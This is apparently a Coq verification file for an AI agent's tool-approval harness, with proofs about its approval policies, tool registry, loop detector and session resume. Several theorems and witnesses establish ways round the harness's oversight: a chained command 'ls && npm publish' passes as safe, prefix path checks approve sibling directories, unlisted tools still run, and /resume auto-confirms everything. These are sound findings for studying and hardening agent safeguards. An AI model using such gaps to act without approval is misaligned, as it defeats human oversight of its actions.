  Approval.checkApproval ApprovalExamples.resolveHere
    (ApprovalExamples.manager Approval.YOLO)
    (ApprovalExamples.pathAction ["/etc/cron.d"])
  = Approval.NEEDS_CONFIRMATION
  /\ Approval.checkApproval ApprovalExamples.resolveHere
       (ApprovalExamples.manager Approval.YOLO)
       (ApprovalExamples.pathAction ["/home/user/project-old/cache"])
     = Approval.APPROVED.
Proof.
  split.
  - exact (yolo_asks_only_for_escaping_paths ApprovalExamples.resolveHere
             (ApprovalExamples.manager Approval.YOLO)
             (ApprovalExamples.pathAction ["/etc/cron.d"]) eq_refl).
  - exact (yolo_asks_only_for_escaping_paths ApprovalExamples.resolveHere
             (ApprovalExamples.manager Approval.YOLO)
             (ApprovalExamples.pathAction ["/home/user/project-old/cache"]) eq_refl).
Defined.

(** Under policy never, [ls] followed by a second command that publishes a
    package, touching a file outside the working directory. *)
Lemma first_word_decides_safety_witness :
  Approval.isSafeCommand "ls && npm publish" = true
  /\ Approval.checkApproval ApprovalExamples.resolveHere
       (ApprovalExamples.manager Approval.NEVER)
       (ApprovalExamples.commandAction "ls && npm publish" ["/etc/passwd"])
     = Approval.APPROVED.
Proof.
  apply (first_word_decides_safety ApprovalExamples.resolveHere
           (ApprovalExamples.manager Approval.NEVER)
           (ApprovalExamples.commandAction "ls && npm publish" ["/etc/passwd"])
           "ls" "&& npm publish").
  - now left.
  - reflexivity.
  - now vm_compute.
Defined.
Section MakeDirApproval.
Import ToolBase Data Eff Hooks Approval Registry.
Context `{Env}.

(** X4: for the make_dir tool called with a string path, the confirmation
    descriptor always returns and lists the resolved target as its only
    affected path, and the approval decision depends on that path alone: it
    is needs-confirmation when the target fails the path test [escapes],
    that is, when its resolved text does not begin with the resolved working
    directory of the approval manager, and approved otherwise, under every
    policy (never and yolo included).  The test compares texts, so a target
    in a sibling directory whose name extends that of the working directory
    is approved. *)
Theorem make_dir_decision_depends_on_the_path_only
    (am : ApprovalManager Callback) (cwd p : string) (more : Params) (e : Ext) :
  let params : Params := <[ "path" := Js.VStr p ]> more in
  exists target c,
    resolvePath cwd (Some (Js.VStr p)) = inr target
    /\ getConfirmation MakeDirTool {| params := params; cwd := cwd |} e = (inr (Some c), e)
    /\ affectedPaths c = Some [target]
    /\ checkApproval (Path.resolve procCwd) am (contextOf MakeDirTool "make_dir" params c)
       = if escapes (Path.resolve procCwd) am target then NEEDS_CONFIRMATION
         else APPROVED.
Proof.
  cbv zeta. eexists _, _. split; [reflexivity|]. split.
  - cbn [getConfirmation MakeDirTool ToolBase.params ToolBase.cwd].
    rewrite lookup_insert_eq. reflexivity.
  - split; [reflexivity|].
    unfold checkApproval, commandVerdict, contextOf.
    cbn [isMutating toolIsMutating MakeDirTool baseIsMutating negb ctxCommand
         ToolBase.command ctxAffectedPaths ToolBase.affectedPaths Js.nullish
         existsb ctxIsDangerous ToolBase.isDangerous].
    rewrite orb_false_r. now destruct (escapes _ _ _).
Qed.

End MakeDirApproval.

Section MakeDirWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Hooks Approval Registry Agent Examples.

(** Under policy never, in the working directory /home/user/project:
    make_dir for a directory under /etc asks, and make_dir for a directory
    in the sibling /home/user/project-old is approved. *)
Lemma make_dir_decision_depends_on_the_path_only_witness :
  let am := approvalManager (newSession (demoConfig NEVER 5) makeDirRegistry
                               "session-1" "You are an agent." 0) in
  let inside : Params := <[ "path" := Js.VStr "../project-old/cache" ]> ∅ in
  let outside : Params := <[ "path" := Js.VStr "/etc/cron.d/job" ]> ∅ in
  (exists c,
     getConfirmation MakeDirTool {| params := outside; cwd := "/home/user/project" |} 0
     = (inr (Some c), 0)
     /\ affectedPaths c = Some ["/etc/cron.d/job"]
     /\ checkApproval (Path.resolve procCwd) am (contextOf MakeDirTool "make_dir" outside c)
        = NEEDS_CONFIRMATION)
  /\ (exists c,
        getConfirmation MakeDirTool {| params := inside; cwd := "/home/user/project" |} 0
        = (inr (Some c), 0)
        /\ affectedPaths c = Some ["/home/user/project-old/cache"]
        /\ checkApproval (Path.resolve procCwd) am
             (contextOf MakeDirTool "make_dir" inside c)
           = APPROVED).
Proof.
  cbv zeta. split.
  - pose proof (make_dir_decision_depends_on_the_path_only
                  (approvalManager (newSession (demoConfig NEVER 5) makeDirRegistry
                                      "session-1" "You are an agent." 0))
                  "/home/user/project" "/etc/cron.d/job" ∅ 0) as Hx.
    cbv zeta in Hx. destruct Hx as (target & c & E1 & E2 & E3 & E4).
    vm_compute in E1. injection E1 as <-.
    exists c. split; [exact E2|]. split; [exact E3|]. rewrite E4. now vm_compute.
  - pose proof (make_dir_decision_depends_on_the_path_only
                  (approvalManager (newSession (demoConfig NEVER 5) makeDirRegistry
                                      "session-1" "You are an agent." 0))
                  "/home/user/project" "../project-old/cache" ∅ 0) as Hx.
    cbv zeta in Hx. destruct Hx as (target & c & E1 & E2 & E3 & E4).
    vm_compute in E1. injection E1 as <-.
    exists c. split; [exact E2|]. split; [exact E3|]. rewrite E4. now vm_compute.
Defined.

End MakeDirWitness.

(** ** Tool registry: lookups, the allow-list and the outcomes of invoke *)

Section RegistryLookups.
Import ToolBase Data Eff Hooks Approval Registry.
Context `{Env}.

(** X5: lookups after updates of the registry.  A registered tool is found
    under its name and shadows an MCP tool of that name; registering touches
    no other name; an MCP tool is found only while no tool of the registry
    proper has its name; [unregister] answers whether a tool of the registry
    proper had the name, removes that one only, and so uncovers an MCP tool
    of the same name instead of making the name unknown. *)
Theorem registry_lookups_after_updates (tool : Tool) (reg : ToolRegistry) (n : string) :
  get (register tool reg) (name tool) = Some tool
  /\ (n <> name tool -> get (register tool reg) n = get reg n)
  /\ get (registerMcpTool tool reg) (name tool)
     = match tools reg !! name tool with
       | Some shadowing => Some shadowing
       | None => Some tool
       end
  /\ fst (unregister n reg) = bool_decide (is_Some (tools reg !! n))
  /\ get (snd (unregister n reg)) n = mcpTools reg !! n
  /\ (forall k, k <> n -> get (snd (unregister n reg)) k = get reg k).
Proof.
  unfold get, register, registerMcpTool, unregister. cbn [tools mcpTools fst snd].
  split; [now rewrite lookup_insert_eq|].
  split; [intros Hn; now rewrite lookup_insert_ne by congruence|].
  split; [destruct (tools reg !! name tool); [reflexivity|now rewrite lookup_insert_eq]|].
  split; [reflexivity|].
  split; [now rewrite lookup_delete_eq|].
  intros k Hk. now rewrite lookup_delete_ne by congruence.
Qed.

(** X6: the allow-list limits what is offered to the model, not what can be
    invoked.  With no allow-list, or an empty one, every tool is offered;
    with a non-empty one exactly the tools whose name is listed are; and
    [invoke] never reads the list: two registries holding the same tools
    answer every invocation alike, so a tool that is not offered is still
    run when the model names it. *)
Theorem allow_list_limits_the_offer_not_invoke (reg : ToolRegistry) :
  let allTools := (List.map snd (map_to_list (tools reg))
                   ++ List.map snd (map_to_list (mcpTools reg)))%list in
  (allowedTools reg = None \/ allowedTools reg = Some [] -> getTools reg = allTools)
  /\ (forall a allowed tool,
        allowedTools reg = Some (a :: allowed) ->
        (In tool (getTools reg) <-> In tool allTools /\ In (name tool) (a :: allowed)))
  /\ (forall reg' toolName params cwd hs am w,
        tools reg' = tools reg -> mcpTools reg' = mcpTools reg ->
        invoke reg' toolName params cwd hs am w = invoke reg toolName params cwd hs am w).
Proof.
  cbv zeta. split; [|split].
  - unfold getTools. now intros [-> | ->].
  - intros a allowed tool Ha. unfold getTools. rewrite Ha, filter_In.
    split; intros [Hin Hn]; (split; [exact Hin|]).
    + apply existsb_exists in Hn. destruct Hn as (x & Hx & Ex).
      apply String.eqb_eq in Ex. now subst x.
    + apply existsb_exists. exists (name tool). split; [exact Hn|apply String.eqb_refl].
  - intros reg' toolName params cwd hs am w Ht Hm.
    unfold invoke, get. now rewrite Ht, Hm.
Qed.

End RegistryLookups.
Section InvokeOutcomes.
Import ToolBase Data Eff Hooks Approval Registry.
Context `{Env}.


End InvokeOutcomes.
Section RegistryWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Hooks Approval Registry Agent Examples.

(** make_dir is not offered by the restricted registry, yet invoking it
    there does what it does in the unrestricted one. *)
Lemma allow_list_limits_the_offer_not_invoke_witness :
  getSchemas readOnlyRegistry = []
  /\ forall params cwd hs am w,
       invoke readOnlyRegistry "make_dir" params cwd hs am w
       = invoke makeDirRegistry "make_dir" params cwd hs am w.
Proof.
  split; [now vm_compute|].
  intros params cwd hs am w.
  exact (proj2 (proj2 (allow_list_limits_the_offer_not_invoke makeDirRegistry))
           readOnlyRegistry "make_dir" params cwd hs am w eq_refl eq_refl).
Defined.


End RegistryWitness.

(** ** Loop detector: the window and the soundness of reports *)

Section LoopHistory.
Import LoopDetector.

Lemma sliceLast_short {A} (n : nat) (xs : list A) :
  List.length xs <= n -> sliceLast n xs = xs.
Proof.
  intros L. unfold sliceLast.
  replace (List.length xs - n) with 0 by lia. reflexivity.
Qed.

Lemma sliceLast_snoc {A} (n : nat) (xs : list A) (x : A) :
  sliceLast (S n) (xs ++ [x]) = (sliceLast n xs ++ [x])%list.
Proof.
  unfold sliceLast. rewrite length_app. simpl.
  replace (List.length xs + 1 - S n) with (List.length xs - n) by lia.
  rewrite skipn_app.
  replace (List.length xs - n - List.length xs) with 0 by lia. reflexivity.
Qed.

(** One recording keeps the last [historyMax] signatures. *)
Lemma recordAction_window actionType details ld (sigs : list string) :
  history ld = sliceLast historyMax sigs ->
  history (recordAction actionType details ld)
  = sliceLast historyMax (sigs ++ [signature actionType details]).
Proof.
  intros E. unfold recordAction. cbn [history]. rewrite E.
  set (s := signature actionType details).
  change historyMax with 20.
  destruct (Nat.le_gt_cases 20 (List.length sigs)) as [L|L].
  - assert (Ls : List.length (sliceLast 20 sigs) = 20) by now apply sliceLast_length.
    replace (20 <? List.length (sliceLast 20 sigs ++ [s]))%nat with true
      by (symmetry; apply Nat.ltb_lt; rewrite length_app; simpl; lia).
    rewrite (sliceLast_snoc 19 sigs s).
    rewrite (sliceLast_of_sliceLast 19 20 sigs) by lia.
    destruct (sliceLast 20 sigs) as [|x l]; [discriminate|]. reflexivity.
  - rewrite (sliceLast_short 20 sigs) by lia.
    replace (20 <? List.length (sigs ++ [s]))%nat with false
      by (symmetry; apply Nat.ltb_ge; rewrite length_app; simpl; lia).
    rewrite sliceLast_short; [reflexivity|]. rewrite length_app. simpl. lia.
Qed.

(** X8: the history is a sliding window.  After any sequence of recorded
    actions, starting from a new detector, the history holds the signatures
    of the last twenty actions, in order, and nothing else: it never grows
    beyond twenty entries. *)
Theorem history_is_a_window_of_twenty (actions : list (string * ActionDetails)) :
  let ld := List.fold_left (fun ld a => recordAction (fst a) (snd a) ld) actions
              newLoopDetector in
  history ld
  = sliceLast historyMax (List.map (fun a => signature (fst a) (snd a)) actions)
  /\ List.length (history ld) = Nat.min historyMax (List.length actions).
Proof.
  cbv zeta.
  assert (W : history (List.fold_left (fun ld a => recordAction (fst a) (snd a) ld)
                         actions newLoopDetector)
              = sliceLast historyMax
                  (List.map (fun a => signature (fst a) (snd a)) actions)).
  { induction actions as [|a actions IH] using rev_ind; [reflexivity|].
    rewrite fold_left_app, map_app. cbn [List.fold_left List.map].
    now apply recordAction_window. }
  split; [exact W|]. rewrite W. unfold sliceLast.
  rewrite length_skipn, length_map. unfold historyMax. lia.
Qed.

(** X9: what is reported is there.  A report is one of three texts.  The
    repeat is reported only when the last three signatures are one and the
    same; a cycle of length 2 or 3 only when at least six signatures are
    recorded and the comma-joined halves of the last four, respectively six,
    signatures coincide.  With fewer than three signatures recorded nothing
    is reported. *)
Theorem reported_loops_are_in_the_history (ld : LoopDetector) :
  (forall report,
     checkForLoop ld = Some report ->
     (report = "Same action repeated 3 times"
      /\ exists a, sliceLast 3 (history ld) = [a; a; a])
     \/ (6 <= List.length (history ld)
         /\ exists k, (k = 2 \/ k = 3)
              /\ report = "Detected repeating cycle of length " ++ Js.ofNat k
              /\ Js.join "," (List.firstn k (sliceLast (k * 2) (history ld)))
                 = Js.join "," (List.skipn k (sliceLast (k * 2) (history ld)))))
  /\ (List.length (history ld) < 3 -> checkForLoop ld = None).
Proof.
  split.
  - intros report E. unfold checkForLoop in E.
    destruct (List.length (history ld) <? 2)%nat; [discriminate|].
    change maxExactRepeats with 3 in E. change maxCycleLength with 3 in E.
    destruct ((3 <=? List.length (history ld))%nat
              && (distinct (sliceLast 3 (history ld)) =? 1)%nat) eqn:Er.
    + left. injection E as <-. split; [reflexivity|].
      apply andb_prop in Er. destruct Er as [L D].
      apply Nat.leb_le in L. apply Nat.eqb_eq in D.
      pose proof (sliceLast_length 3 (history ld) L) as Ls.
      destruct (sliceLast 3 (history ld)) as [|a [|b [|c [|d l]]]]; try discriminate.
      apply distinct_one_inv in D. destruct D as [-> ->]. now exists c.
    + right. destruct (3 * 2 <=? List.length (history ld))%nat eqn:L6; [|discriminate].
      apply Nat.leb_le in L6. simpl in L6. split; [exact L6|].
      assert (M : Nat.min 3 (List.length (history ld) / 2) = 3).
      { assert (3 <= List.length (history ld) / 2)
          by (apply Nat.div_le_lower_bound; lia). lia. }
      rewrite M in E. cbn [Nat.sub List.seq firstCycle] in E.
      destruct (String.eqb _ _) eqn:E2 in E.
      * injection E as <-. exists 2. split; [now left|]. split; [reflexivity|].
        now apply String.eqb_eq.
      * destruct (String.eqb _ _) eqn:E3 in E; [|discriminate].
        injection E as <-. exists 3. split; [now right|]. split; [reflexivity|].
        now apply String.eqb_eq.
  - intros L. unfold checkForLoop.
    destruct (List.length (history ld) <? 2)%nat; [reflexivity|].
    change maxExactRepeats with 3. change maxCycleLength with 3.
    replace (3 <=? List.length (history ld))%nat with false
      by (symmetry; apply Nat.leb_gt; lia).
    replace (3 * 2 <=? List.length (history ld))%nat with false
      by (symmetry; apply Nat.leb_gt; simpl; lia).
    reflexivity.
Qed.

End LoopHistory.

(** The report of an alternation is backed by the last four signatures. *)
Lemma reported_loops_are_in_the_history_witness :
  let ld := {| LoopDetector.history := ["A"; "B"; "A"; "B"; "A"; "B"] |} in
  ("Detected repeating cycle of length 2" = "Same action repeated 3 times"
   /\ exists a, LoopDetector.sliceLast 3 (LoopDetector.history ld) = [a; a; a])
  \/ (6 <= List.length (LoopDetector.history ld)
      /\ exists k, (k = 2 \/ k = 3)
           /\ "Detected repeating cycle of length 2"
              = "Detected repeating cycle of length " ++ Js.ofNat k
           /\ Js.join "," (List.firstn k (LoopDetector.sliceLast (k * 2)
                                            (LoopDetector.history ld)))
              = Js.join "," (List.skipn k (LoopDetector.sliceLast (k * 2)
                                             (LoopDetector.history ld)))).
Proof.
  cbv zeta.
  apply (proj1 (reported_loops_are_in_the_history
                  {| LoopDetector.history := ["A"; "B"; "A"; "B"; "A"; "B"] |})).
  now vm_compute.
Defined.

(** ** Payloads, snapshots and /resume *)

Section PayloadFacts.
Import ToolBase Data Eff Context Agent.
Context `{Env}.

(** X10: [getMessages] keeps every message, in order, after the system
    prompt (which is left out when empty), and a payload never carries an
    empty field: an empty content, an empty tool-call id and an empty list of
    tool calls are omitted. *)
Theorem payloads_keep_order_and_carry_no_empty_field (cm : ContextManager) :
  List.map pRole (getMessages cm)
  = ((if Js.truthyStr (systemPrompt cm) then ["system"] else [])
     ++ List.map role (messages cm))%list
  /\ Forall (fun p => pContent p <> Some "" /\ tool_call_id p <> Some ""
                      /\ tool_calls p <> Some [])
       (getMessages cm).
Proof.
  unfold getMessages. split.
  - rewrite map_app, map_map. now destruct (Js.truthyStr (systemPrompt cm)).
  - apply Forall_app. split.
    + destruct (systemPrompt cm) as [|a s]; simpl; [constructor|].
      constructor; [|constructor]. simpl. repeat split; discriminate.
    + apply Forall_forall. intros p Hp. apply list_elem_of_In, in_map_iff in Hp.
      destruct Hp as (m & <- & _). unfold itemPayload. simpl.
      split; [|split].
      * destruct (content m) as [[|a s]|]; simpl; discriminate.
      * destruct (toolCallId m) as [[|a s]|]; simpl; discriminate.
      * destruct (toolCalls m) as [[|c cs]|]; discriminate.
Qed.

Lemma push_stored (m : MessageItem) (cm : ContextManager) :
  storedByAppend (modelName cm) m ->
  Forall (storedByAppend (modelName cm)) (messages cm) ->
  modelName (push m cm) = modelName cm
  /\ Forall (storedByAppend (modelName cm)) (messages (push m cm)).
Proof.
  intros Hm Hs. split; [reflexivity|]. unfold push. simpl.
  apply Forall_app. split; [exact Hs|]. now constructor.
Qed.

(** An append that passes texts stores a message that a snapshot carries
    whole. *)
Lemma append_stores (op : Append) (cm : ContextManager) :
  hasText op = true ->
  Forall (storedByAppend (modelName cm)) (messages cm) ->
  exists cm', append op cm = inr cm'
              /\ modelName cm' = modelName cm
              /\ Forall (storedByAppend (modelName cm)) (messages cm').
Proof.
  intros Ht Hs. destruct op as [c|c calls|id c]; simpl in *.
  - unfold addUserMessage.
    destruct (countTokens_defined c (modelName cm)) as (n & En). rewrite En. simpl.
    eexists. split; [reflexivity|]. apply push_stored; [|exact Hs].
    split; [reflexivity|]. split; [now exists c, n|]. left. now repeat split.
  - unfold addAssistantMessage.
    destruct (countTokens_defined (Js.nullish c "") (modelName cm)) as (n & En).
    rewrite En. simpl.
    eexists. split; [reflexivity|]. apply push_stored; [|exact Hs].
    split; [reflexivity|]. split; [now exists (Js.nullish c ""), n|].
    right. left. simpl. repeat split. eauto.
  - apply andb_prop in Ht. destruct Ht as [Hi Hc]. unfold addToolResult.
    destruct (countTokens_defined c (modelName cm)) as (n & En). rewrite En. simpl.
    eexists. split; [reflexivity|]. apply push_stored; [|exact Hs].
    split; [reflexivity|]. split; [now exists c, n|]. right. right. now repeat split.
Qed.

Lemma appendAll_stores (ops : list Append) :
  forall cm,
    forallb hasText ops = true ->
    Forall (storedByAppend (modelName cm)) (messages cm) ->
    exists cm', appendAll ops cm = inr cm'
                /\ modelName cm' = modelName cm
                /\ Forall (storedByAppend (modelName cm)) (messages cm').
Proof.
  induction ops as [|op ops IH]; intros cm Ht Hs.
  - exists cm. now repeat split.
  - simpl in Ht. apply andb_prop in Ht. destruct Ht as [Ho Hr].
    destruct (append_stores op cm Ho Hs) as (cm1 & E1 & M1 & S1).
    rewrite <- M1 in S1.
    destruct (IH cm1 Hr S1) as (cm2 & E2 & M2 & S2).
    exists cm2. simpl. rewrite E1. simpl. split; [exact E2|].
    split; [congruence|]. now rewrite <- M1.
Qed.

(** X11: the snapshot round trip on histories built with texts.  Starting
    from a new context manager, any sequence of calls of the append methods
    that passes no empty user text, tool output or tool-call id returns; and
    replaying the payloads of the resulting history into a new context
    manager of the same model (whatever its system prompt) restores the
    stored messages exactly, token counts included. *)
Theorem appended_history_survives_a_snapshot
    (prompt prompt' model : string) (ops : list Append) :
  forallb hasText ops = true ->
  exists cm cm',
    appendAll ops (newContextManager prompt model) = inr cm
    /\ replay (getMessages cm) (newContextManager prompt' model) = inr cm'
    /\ messages cm' = messages cm.
Proof.
  intros Ht.
  destruct (appendAll_stores ops (newContextManager prompt model) Ht) as (cm & E & M & S).
  { constructor. }
  simpl in M, S. rewrite <- M in S.
  destruct (roundtrip_of_stored_messages cm (newContextManager prompt' model))
    as (cm' & R & Em); [now rewrite M|reflexivity|exact S|].
  now exists cm, cm'.
Qed.

Lemma replayOne_keeps_usage (msg : Payload) (cm cm' : ContextManager) :
  replayOne msg cm = inr cm' -> totalUsage cm' = totalUsage cm.
Proof.
  unfold replayOne, addUserMessage, addAssistantMessage, addToolResult.
  destruct (String.eqb (pRole msg) "system"); [now intros [= <-]|].
  destruct (String.eqb (pRole msg) "user").
  { destruct (countTokens _ _); [discriminate|]. now intros [= <-]. }
  destruct (String.eqb (pRole msg) "assistant").
  { destruct (countTokens _ _); [discriminate|]. now intros [= <-]. }
  destruct (String.eqb (pRole msg) "tool"); [|now intros [= <-]].
  destruct (countTokens _ _); [discriminate|]. now intros [= <-].
Qed.

Lemma replay_keeps_usage (msgs : list Payload) :
  forall cm cm', replay msgs cm = inr cm' -> totalUsage cm' = totalUsage cm.
Proof.
  induction msgs as [|msg msgs IH]; intros cm cm' E; simpl in E.
  - now injection E as <-.
  - destruct (replayOne msg cm) as [e|cm1] eqn:E1; [discriminate|]. simpl in E.
    rewrite (IH _ _ E). exact (replayOne_keeps_usage _ _ _ E1).
Qed.

(** X12: what /resume leaves behind.  The session that replaces the
    agent's one is built without a confirmation callback, whatever callback
    the agent was created with: from then on every request for confirmation
    is answered yes without asking.  Its policy is the one the configuration
    holds at that moment, its loop history is empty, and its counters and
    usage totals are the snapshot's. *)
Theorem resumed_session_confirms_without_asking
    (cfg : Config) (reg : Registry.ToolRegistry) (id prompt : string) (t : nat)
    (snapshot : SessionSnapshot) (s' : Session) :
  resumeCommand cfg reg id prompt t snapshot = inr s' ->
  Approval.confirmationCallback (approvalManager s') = None
  /\ (forall c w, Registry.requestConfirmation (approvalManager s') c w = (inr true, w))
  /\ Approval.approvalPolicy (approvalManager s') = approval cfg
  /\ LoopDetector.history (loopDetector s') = []
  /\ sessionId s' = snapSessionId snapshot
  /\ turnCount s' = snapTurnCount snapshot
  /\ totalUsage (contextManager s') = snapTotalUsage snapshot.
Proof.
  unfold resumeCommand, resume. intros E.
  destruct (replay _ _) as [e|cm] eqn:Er; [discriminate|]. simpl in E.
  injection E as <-. cbn. repeat split.
  exact (replay_keeps_usage _ _ _ Er).
Qed.

End PayloadFacts.
Section SnapshotWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Context Agent Examples.

(** A short exchange with one tool call and an assistant message without
    text. *)
Lemma appended_history_survives_a_snapshot_witness :
  let ops :=
    [ AppendUser "List the directory.";
      AppendAssistant None
        (Some [ {| tcrId := "call_1"; tcrType := "function";
                   function := Some {| fnName := Some "list_dir";
                                       fnArguments := Some "{}" |} |} ]);
      AppendTool "call_1" "a.txt b.txt";
      AppendAssistant (Some "Two files.") None ] in
  exists cm cm',
    appendAll ops (newContextManager "You are an agent." "gpt-4") = inr cm
    /\ replay (getMessages cm) (newContextManager "You are a new agent." "gpt-4") = inr cm'
    /\ messages cm' = messages cm.
Proof.
  cbv zeta.
  apply (appended_history_survives_a_snapshot "You are an agent." "You are a new agent."
           "gpt-4").
  reflexivity.
Defined.

(** Resuming the snapshot of the busy session under a configuration whose
    policy is on-request. *)
Lemma resumed_session_confirms_without_asking_witness :
  exists s',
    resumeCommand (demoConfig Approval.ON_REQUEST 5) emptyRegistry "session-2"
      "You are an agent." 9 (snapshotOf busySession) = inr s'
    /\ Approval.confirmationCallback (approvalManager s') = None
    /\ (forall c w, Registry.requestConfirmation (approvalManager s') c w = (inr true, w))
    /\ Approval.approvalPolicy (approvalManager s') = approval (demoConfig Approval.ON_REQUEST 5)
    /\ LoopDetector.history (loopDetector s') = []
    /\ sessionId s' = snapSessionId (snapshotOf busySession)
    /\ turnCount s' = snapTurnCount (snapshotOf busySession)
    /\ totalUsage (contextManager s') = snapTotalUsage (snapshotOf busySession).
Proof.
  eexists. split; [vm_compute; reflexivity|].
  eapply (resumed_session_confirms_without_asking (demoConfig Approval.ON_REQUEST 5)
            emptyRegistry "session-2" "You are an agent." 9 (snapshotOf busySession)).
  vm_compute. reflexivity.
Defined.

End SnapshotWitness.

(** ** The run of a message: events, agent hooks and the hooks that run *)

Section TraceFacts.
Import ToolBase Data Eff Hooks Approval Registry Context.
Context `{Env}.

Lemma emitsOnly_ret {A} (P : Effect -> Prop) (a : A) : emitsOnly P (ret a).
Proof. intros w. exists []. simpl. now rewrite app_nil_r. Qed.

Lemma emitsOnly_bind {A B} (P : Effect -> Prop) (m : M World A) (k : A -> M World B) :
  emitsOnly P m -> (forall a, emitsOnly P (k a)) -> emitsOnly P (bind m k).
Proof.
  intros Hm Hk w. unfold bind. destruct (Hm w) as (e1 & T1 & F1).
  destruct (m w) as [[e|a] w1]; simpl in *; [now exists e1|].
  destruct (Hk a w1) as (e2 & T2 & F2).
  exists (e1 ++ e2)%list. rewrite T2, T1, app_assoc. split; [reflexivity|].
  apply Forall_app. now split.
Qed.

Lemma emitsOnly_tryCatch {A} (P : Effect -> Prop) (m : M World A)
    (h : string -> M World A) :
  emitsOnly P m -> (forall e, emitsOnly P (h e)) -> emitsOnly P (tryCatch m h).
Proof.
  intros Hm Hh w. unfold tryCatch. destruct (Hm w) as (e1 & T1 & F1).
  destruct (m w) as [[e|a] w1]; simpl in *; [|now exists e1].
  destruct (Hh e w1) as (e2 & T2 & F2).
  exists (e1 ++ e2)%list. rewrite T2, T1, app_assoc. split; [reflexivity|].
  apply Forall_app. now split.
Qed.

Lemma emitsOnly_onExt {A} (P : Effect -> Prop) (m : M Ext A) : emitsOnly P (onExt m).
Proof.
  intros w. exists []. rewrite onExt_trace, app_nil_r. now split.
Qed.

Lemma emitsOnly_emit (P : Effect -> Prop) (e : Effect) : P e -> emitsOnly P (emit e).
Proof. intros He w. exists [e]. split; [reflexivity|]. now constructor. Qed.

Lemma emitsOnly_forEach {A} (P : Effect -> Prop) (xs : list A)
    (body : A -> M World unit) :
  (forall x, emitsOnly P (body x)) -> emitsOnly P (forEach xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl.
  - apply emitsOnly_ret.
  - apply emitsOnly_bind; [apply Hb | intros _; exact IH].
Qed.

Lemma emitsOnly_weaken {A} (P P' : Effect -> Prop) (m : M World A) :
  (forall e, P e -> P' e) -> emitsOnly P m -> emitsOnly P' m.
Proof.
  intros HP Hm w. destruct (Hm w) as (effs & T & F). exists effs. split; [exact T|].
  eapply Forall_impl; [exact F|exact HP].
Qed.

(** Running the hooks of a trigger adds the runs of those hooks only. *)
Lemma emitsOnly_runMatching (P : Effect -> Prop) hs t env :
  (forall e, effectTrigger e = t -> P e) -> emitsOnly P (runMatching hs t env).
Proof.
  intros HP. unfold runMatching. apply emitsOnly_forEach. intros hook.
  destruct (trigger_eqb (trigger hook) t) eqn:Et; [|apply emitsOnly_ret].
  unfold runHook. apply emitsOnly_bind.
  - apply emitsOnly_emit, HP. simpl. now destruct (trigger hook), t.
  - intros _ w. exists []. simpl. now rewrite app_nil_r.
Qed.

Lemma emitsOnly_triggerAfterTool (P : Effect -> Prop) hs toolName params result :
  (forall e, effectTrigger e = AFTER_TOOL -> P e) ->
  emitsOnly P (triggerAfterTool hs toolName params result).
Proof.
  intros HP. unfold triggerAfterTool. apply emitsOnly_bind.
  - now apply emitsOnly_emit, HP.
  - intros _. now apply emitsOnly_runMatching.
Qed.

Lemma emitsOnly_triggerBeforeTool (P : Effect -> Prop) hs toolName params :
  (forall e, effectTrigger e = BEFORE_TOOL -> P e) ->
  emitsOnly P (triggerBeforeTool hs toolName params).
Proof.
  intros HP. unfold triggerBeforeTool. apply emitsOnly_bind.
  - now apply emitsOnly_emit, HP.
  - intros _. now apply emitsOnly_runMatching.
Qed.

Lemma emitsOnly_report hs toolName params result :
  emitsOnly toolEffect (run triggerAfterTool hs toolName params result in ret result).
Proof.
  apply emitsOnly_bind; [|intros _; apply emitsOnly_ret].
  apply emitsOnly_triggerAfterTool. intros e He. now right.
Qed.

(** Whatever the tool and the callback do, an invocation adds to the trace
    only calls and runs of the tool hooks. *)
Lemma emitsOnly_invoke reg toolName params cwd hs
    (approvalManager : option (ApprovalManager Callback)) :
  emitsOnly toolEffect (invoke reg toolName params cwd hs approvalManager).
Proof.
  unfold invoke. destruct (get reg toolName) as [tool|]; [|apply emitsOnly_report].
  destruct (0 <? _)%nat; [apply emitsOnly_report|].
  apply emitsOnly_bind.
  { apply emitsOnly_triggerBeforeTool. intros e He. now left. }
  intros _. apply emitsOnly_bind.
  - unfold approvalGate. destruct approvalManager as [am|]; [|apply emitsOnly_ret].
    apply emitsOnly_bind; [apply emitsOnly_onExt|]. intros [c|]; [|apply emitsOnly_ret].
    destruct (checkApproval _ _ _).
    + apply emitsOnly_ret.
    + apply emitsOnly_bind; [|intros _; apply emitsOnly_ret].
      apply emitsOnly_triggerAfterTool. intros e He. now right.
    + apply emitsOnly_bind.
      * unfold requestConfirmation.
        destruct (confirmationCallback am); [apply emitsOnly_onExt | apply emitsOnly_ret].
      * intros approved. destruct approved; cbn [negb]; [apply emitsOnly_ret|].
        apply emitsOnly_bind; [|intros _; apply emitsOnly_ret].
        apply emitsOnly_triggerAfterTool. intros e He. now right.
  - intros [r|]; [apply emitsOnly_ret|].
    apply emitsOnly_tryCatch.
    + apply emitsOnly_bind; [apply emitsOnly_onExt|]. intros r. apply emitsOnly_report.
    + intros e. apply emitsOnly_report.
Qed.

Lemma agentCalls_app (a b : list Effect) :
  agentCalls (a ++ b) = (agentCalls a ++ agentCalls b)%list.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  simpl. destruct x as [t tool result|]; [|exact IH].
  destruct t; try exact IH; simpl; now rewrite IH.
Qed.

Lemma agentCalls_tool (effs : list Effect) :
  Forall toolEffect effs -> agentCalls effs = [].
Proof.
  induction 1 as [|e effs He _ IH]; [reflexivity|].
  simpl. destruct e as [t tool result|hook env]; [|exact IH].
  destruct He as [He|He]; simpl in He; subst t; exact IH.
Qed.

Lemma agentCalls_hooks (effs : list Effect) :
  Forall (fun e => exists hook env, e = HookRan hook env) effs -> agentCalls effs = [].
Proof.
  induction 1 as [|e effs (hook & env & ->) _ IH]; [reflexivity|exact IH].
Qed.

End TraceFacts.
Section RunFacts.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.

Lemma extendsBy_ret {A} P Q (a : A) : extendsBy P Q (ret a).
Proof. intros st. exists [], []. simpl. now rewrite !app_nil_r. Qed.

Lemma extendsBy_throw {A} P Q (e : string) : extendsBy P Q (@throw AgentState A e).
Proof. intros st. exists [], []. simpl. now rewrite !app_nil_r. Qed.

Lemma extendsBy_gets {A} P Q (f : AgentState -> A) : extendsBy P Q (gets f).
Proof. intros st. exists [], []. simpl. now rewrite !app_nil_r. Qed.

